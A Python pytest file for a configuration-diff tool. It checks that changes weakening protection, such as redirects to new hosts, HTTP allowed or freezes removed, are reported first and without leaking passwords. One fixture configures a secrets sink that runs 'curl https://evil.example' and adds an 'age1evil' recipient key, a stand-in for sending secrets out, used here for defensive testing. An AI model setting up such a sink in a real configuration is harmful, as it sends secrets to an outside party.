"""Whatever another configuration changes is told, and first of all what takes protection away."""

from __future__ import annotations

from dataclasses import fields, replace
from pathlib import Path
from typing import Any

import pytest

from reconciler.model.clients import Grant, Location
from reconciler.model.diagnostics import Severity
from reconciler.model.settings import (
    AgeSinkSetting,
    ClientCertificate,
    CommandSinkSetting,
    CredentialNames,
    DotenvSinkSetting,
    Instance,
    JsonSinkSetting,
    Limits,
    Policy,
    RuleSetting,
    Settings,
    SinkScope,
)
from reconciler.planning.settings_diff import UNREAD, UNREAD_OF_INSTANCE, settings_changes

PLACE = Location("reconciler.yaml", 3, 3)
INSTANCE = Instance(
    "production",
    PLACE,
    url="https://acme.example.com",
    credentials=CredentialNames(username_env="PM_USER", password_env="PM_PASSWORD"),
    variables={"host": "portal.example.com"},
    ca_bundle=Path("ca.pem"),
    timeout=30.0,
    system_clients=("Ours*",),
    frozen="quarter end",
    labels=("eu", "old"),
    policy=Policy(allowed_redirect_hosts=("*.example.com",), forbidden_grants=(Grant.PASSWORD,)),
)
SETTINGS = Settings(
    path=Path("reconciler.yaml"),
    instances=(INSTANCE,),
    default_instance="production",
    protected=("Payments*", "Core*"),
    ignore=("Zapier*",),
    rules={"redirect-fragment": RuleSetting(severity=Severity.ERROR, waivable=False)},
)


def changes(other: Settings, trusted: Settings = SETTINGS) -> list[str]:
    return [note.text for note in settings_changes(trusted, other, "production")]


def of_instance(**values: Any) -> list[str]:
    return changes(replace(SETTINGS, instances=(replace(INSTANCE, **values),)))


def test_equal_configurations_say_nothing_wherever_they_stand() -> None:
    moved = replace(INSTANCE, location=Location("abc:reconciler.yaml", 9, 9))
    assert changes(replace(SETTINGS, path=Path("other.yaml"), instances=(moved,))) == []


@pytest.mark.parametrize(
    ("values", "told"),
    [
        ({"limits": Limits(25, 25, 50, 25, 0)}, ["raises limits.deletes from 3 to 50"]),
        ({"limits": Limits(25, 25, None, 25, 0)}, ["removes limits.deletes, which is 3"]),
        ({"limits": Limits(1, 25, 3, 25, 0)}, ["lowers limits.creates from 25 to 1"]),
        ({"limits": Limits(25, 25, 3, 99, 0)}, ["raises limits.deliveries from 25 to 99"]),
        ({"limits": Limits(25, 25, 3, 25, 1)}, ["raises limits.issuer_changes from 0 to 1"]),
        (
            {"url": "https://evil.example"},
            ["changes url from 'https://acme.example.com' to 'https://evil.example'"],
        ),
        (
            {"credentials": CredentialNames(username_env="PM_USER", password_env="OTHER")},
            ["changes credentials.password_env from 'PM_PASSWORD' to 'OTHER'"],
        ),
        (
            {"credentials": CredentialNames(username_env="PM_USER", password_env="PM_PASSWORD", as_is=True)},
            ["changes credentials.as_is from false to true"],
        ),
        (
            {"variables": {"host": "evil.example"}},
            ["changes variables.host from 'portal.example.com' to 'evil.example' (redirect URLs are made of it)"],
        ),
        ({"ca_bundle": None}, ["changes ca_bundle from 'ca.pem' to nothing"]),
        (
            {"client_certificate": ClientCertificate(Path("us.pem"), Path("us.key"))},
            ["changes client_certificate from nothing to certificate 'us.pem', key 'us.key'"],
        ),
        ({"allow_http": True}, ["turns allow_http on"]),
        ({"expect_system_clients": False}, ["turns expect_system_clients off"]),
        ({"system_clients": ()}, ["takes 'Ours*' out of system_clients"]),
        ({"frozen": None}, ["removes the freeze (quarter end)"]),
        ({"frozen": "later"}, ["changes frozen from 'quarter end' to 'later'"]),
        (
            {"labels": ("eu", "new")},
            [
                "adds the label 'new' (entries for label:new now include it)",
                "removes the label 'old' (entries for label:old now leave it out)",
            ],
        ),
        ({"wave": 2}, ["changes wave from 0 to 2"]),
        (
            {"policy": replace(INSTANCE.policy, allowed_redirect_hosts=("*",))},
            [
                "takes '*.example.com' out of policy.allowed_redirect_hosts",
                "adds '*' to policy.allowed_redirect_hosts",
            ],
        ),
        (
            {"policy": replace(INSTANCE.policy, allowed_redirect_hosts=None)},
            ["changes policy.allowed_redirect_hosts from '*.example.com' to nothing"],
        ),
        (
            {"policy": replace(INSTANCE.policy, forbidden_grants=())},
            ["takes 'password' out of policy.forbidden_grants"],
        ),
    ],
)
def test_a_change_of_an_instance_is_told_in_its_own_words(values: dict[str, Any], told: list[str]) -> None:
    assert of_instance(**values) == told


@pytest.mark.parametrize(
    ("values", "told"),
    [
        ({"protected": ("Core*",)}, ["takes 'Payments*' out of protected"]),
        (
            {"protected": ("Core*", "Payments*")},
            ["changes protected from 'Payments*' and 'Core*' to 'Core*' and 'Payments*'"],
        ),
        ({"ignore": ()}, ["takes 'Zapier*' out of ignore"]),
        ({"ignore": ("Zapier*", "*")}, ["adds '*' to ignore"]),
        ({"default_instance": None}, ["changes default_instance from 'production' to nothing"]),
        (
            {"rules": {}},
            [
                "sets the rule redirect-fragment from error to its default",
                "makes the rule redirect-fragment as waivable as it is by default",
            ],
        ),
        (
            {"rules": {"redirect-fragment": RuleSetting(off=True, waivable=False)}},
            ["sets the rule redirect-fragment from error to off"],
        ),
        ({"instances": ()}, ["removes the instance 'production': 'https://acme.example.com'"]),
    ],
)
def test_a_change_at_the_top_is_told_in_its_own_words(values: dict[str, Any], told: list[str]) -> None:
    assert changes(replace(SETTINGS, **values)) == told


def test_an_instance_that_was_added_is_told_and_what_changes_of_others_is_not() -> None:
    other = Instance("eu", PLACE, url="https://eu.example.com")
    more = replace(SETTINGS, instances=(INSTANCE, other))
    assert changes(more) == ["adds the instance 'eu': 'https://eu.example.com'"]
    assert changes(replace(SETTINGS, instances=(INSTANCE, replace(other, wave=3))), trusted=more) == []


def test_what_takes_protection_away_comes_first() -> None:
    stronger = replace(INSTANCE, limits=Limits(1, 25, 3, 25, 0), wave=1, system_clients=("Ours*", "Yours*"))
    weaker = replace(stronger, allow_http=True, frozen=None)
    told = changes(replace(SETTINGS, protected=("Payments*", "Core*", "Tax*"), instances=(weaker,), ignore=("*",)))
    assert told[:4] == [
        "takes 'Zapier*' out of ignore",
        "adds '*' to ignore",
        "turns allow_http on",
        "removes the freeze (quarter end)",
    ]
    assert sorted(told[4:]) == [
        "adds 'Tax*' to protected",
        "adds 'Yours*' to system_clients",
        "changes wave from 0 to 1",
        "lowers limits.creates from 25 to 1",
    ]


def test_sinks_are_told_as_they_are_configured() -> None:
    """Where secrets would go, and to whom, is what a reviewer must not miss."""
    before = (AgeSinkSetting("secrets/{name}.age", Path("/somewhere")), DotenvSinkSetting(".env", Path("/somewhere")))
    after = (
        CommandSinkSetting(("curl", "https://evil.example"), Path("/somewhere")),
        JsonSinkSetting("all.json", Path("/somewhere"), SinkScope(owners=("team-*",), only=("A", "B"))),
    )
    trusted = replace(SETTINGS, instances=(replace(INSTANCE, sinks=before),), owners={"team-a": ("age1a", "age1b")})
    other = replace(SETTINGS, instances=(replace(INSTANCE, sinks=after),), owners={"team-a": ("age1a", "age1evil")})
    assert changes(other, trusted) == [
        "takes 'age1b' out of owners.team-a",
        "adds 'age1evil' to owners.team-a",
        "takes age 'secrets/{name}.age' and dotenv '.env' out of sinks",
        "adds command 'curl' 'https://evil.example' (30 s) and json 'all.json' for owners 'team-*' for names 'A'"
        " and 'B' to sinks",
    ]


def test_a_password_in_a_url_is_not_told() -> None:
    [told] = of_instance(url="https://u:hunter2@acme.example.com")
    assert "hunter2" not in told


OTHER: dict[str, Any] = {
    "url": "https://other.example.com",
    "labels": (),
    "embedded_as": "box.sqlite3",
    "credentials": None,
    "variables": {},
    "limits": Limits(9, 9, 9, 9, 9),
    "ca_bundle": None,
    "timeout": 1.0,
    "allow_http": True,
    "system_clients": (),
    "expect_system_clients": False,
    "wave": 7,
    "frozen": None,
    "policy": Policy(),
}


@pytest.mark.parametrize("name", [field.name for field in fields(Instance) if field.name not in UNREAD_OF_INSTANCE])
def test_no_field_of_an_instance_is_forgotten(name: str) -> None:
    """Whoever adds one gives another value of it here, and sees how its change is told."""
    other = OTHER.get(name, object())
    notes = settings_changes(SETTINGS, replace(SETTINGS, instances=(replace(INSTANCE, **{name: other}),)), "production")
    assert notes
    assert {note.code for note in notes} == {f"configuration-{name}"}


OTHER_AT_THE_TOP: dict[str, Any] = {"default_instance": None, "protected": (), "ignore": (), "rules": {}}


@pytest.mark.parametrize("name", [field.name for field in fields(Settings) if field.name not in UNREAD])
def test_no_field_of_the_settings_is_forgotten(name: str) -> None:
    other = OTHER_AT_THE_TOP.get(name, object())
    notes = settings_changes(SETTINGS, replace(SETTINGS, **{name: other}), "production")
    assert notes
    assert {note.code for note in notes} == {f"configuration-{name}"}


def test_a_value_of_a_kind_that_nobody_thought_of_is_told_in_its_parts() -> None:
    """As sinks and owners will be: mappings of names to what was configured for them."""
    from reconciler.planning.settings_diff import _different

    before = {"vault": CredentialNames(username_env="A"), "gone": CredentialNames(username_env="B")}
    after = {"vault": CredentialNames(username_env="C"), "new": CredentialNames(password_env="D")}
    assert [each.text for each in _different("sinks", before, after)] == [
        "changes sinks.gone from username_env 'B' to nothing",
        "changes sinks.new from nothing to password_env 'D'",
        "changes sinks.vault.username_env from 'A' to 'C'",
    ]
